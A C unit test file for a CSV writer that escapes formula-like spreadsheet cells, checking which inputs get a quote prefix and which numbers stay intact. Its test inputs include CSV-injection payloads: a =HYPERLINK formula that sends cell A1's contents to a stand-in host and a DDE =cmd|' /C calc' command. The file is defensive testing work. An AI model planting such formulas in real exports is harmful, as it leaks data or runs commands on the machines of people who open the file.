/* CSV meant for spreadsheets (check results, report tables) writes formula-like text as text:
 * =HYPERLINK(…) from a shared pack's check function must not run when the secretary opens the
 * file in Excel. Numbers stay numbers; exports that qufa reads back keep values exact. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "fixture.h"

/* What qf_csv_write_cell (or the plain writer) makes of one value, as a row of its own. */
static char *cell(const char *s, bool spreadsheet)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    assert_non_null(f);
    QF_OK_OR_FAIL(spreadsheet ? qf_csv_write_cell(f, s, 1) : qf_csv_write_field(f, s, 1));
    fclose(f);
    return buf;
}

static void expect_cell(const char *in, const char *out)
{
    char *got = cell(in, true);
    char want[256];
    snprintf(want, sizeof want, "%s\r\n", out);
    if (strcmp(got, want) != 0)
        fail_msg("cell '%s': got '%s', wanted '%s'", in, got, want);
    free(got);
}

static void csv_formula__formula_like_text_is_written_as_text(void **state)
{
    (void)state;
    expect_cell("=HYPERLINK(\"http://x/?\"&A1,\"查看\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"查看\"\")\"");
    expect_cell("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0");
    expect_cell("+1+2", "'+1+2");
    expect_cell("-2+3", "'-2+3");
    expect_cell("@SUM(A1:A2)", "'@SUM(A1:A2)");
    expect_cell("\t=1", "'\t=1");
    expect_cell("-", "'-");
    expect_cell("+", "'+");
    expect_cell("-inf", "'-inf");
    expect_cell("+0x10", "'+0x10");
    /* numbers, and text that does not start a formula, are left alone */
    expect_cell("-3", "-3");
    expect_cell("+86", "+86");
    expect_cell("-1.5e3", "-1.5e3");
    expect_cell("12", "12");
    expect_cell("半月谈", "半月谈");
    expect_cell("a=b", "a=b");
    expect_cell("'=already", "'=already");
    expect_cell("", "");
}

static void csv_formula__plain_writer_keeps_values_exact(void **state)
{
    (void)state;
    char *got = cell("=1+1", false);
    assert_string_equal(got, "=1+1\r\n");
    free(got);
}

static void csv_formula__report_tables_write_text_cells_as_text(void **state)
{
    (void)state;
    qf_table *t = NULL;
    qf_table_options to = QF_TABLE_OPTIONS_INIT;
    to.title = "检查结果";
    QF_OK_OR_FAIL(qf_table_new(&t, &to));
    qf_column title = QF_COLUMN_INIT, days = QF_COLUMN_INIT;
    title.key = "title";
    title.title = "标题";
    title.type = QF_COL_TEXT;
    days.key = "days";
    days.title = "剩余天数";
    days.type = QF_COL_INTEGER;
    QF_OK_OR_FAIL(qf_table_add_column(t, &title));
    QF_OK_OR_FAIL(qf_table_add_column(t, &days));
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    qf_table_output_options o = QF_TABLE_OUTPUT_OPTIONS_INIT;
    o.format = QF_TABLE_CSV;
    QF_OK_OR_FAIL(qf_table_open_stream(t, f, &o));
    QF_OK_OR_FAIL(qf_table_cell_text(t, "=HYPERLINK(\"http://x\")"));
    QF_OK_OR_FAIL(qf_table_cell_int(t, -3));
    QF_OK_OR_FAIL(qf_table_row_end(t));
    QF_OK_OR_FAIL(qf_table_close(t));
    qf_table_free(t);
    fclose(f);
    if (!strstr(buf, "\"'=HYPERLINK(\"\"http://x\"\")\",-3\r\n"))
        fail_msg("table CSV: %s", buf);
    free(buf);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(csv_formula__formula_like_text_is_written_as_text),
        cmocka_unit_test(csv_formula__plain_writer_keeps_values_exact),
        cmocka_unit_test(csv_formula__report_tables_write_text_cells_as_text),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
